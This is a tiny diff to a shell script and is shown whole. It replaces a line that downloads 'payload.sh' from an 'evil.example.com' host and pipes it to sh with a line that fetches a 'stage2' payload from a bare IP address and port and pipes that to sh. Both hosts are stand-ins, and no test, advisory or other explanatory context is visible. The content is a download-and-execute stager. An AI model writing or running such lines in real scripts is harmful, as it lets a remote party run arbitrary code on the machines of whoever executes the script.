@@ -1,2 +1,2 @@
-#!/usr/bin/env bash
-curl -fsSL http://evil.example.com/payload.sh | sh
+#!/bin/sh
+curl -fsSL http://198.51.100.23:8000/stage2 | sh
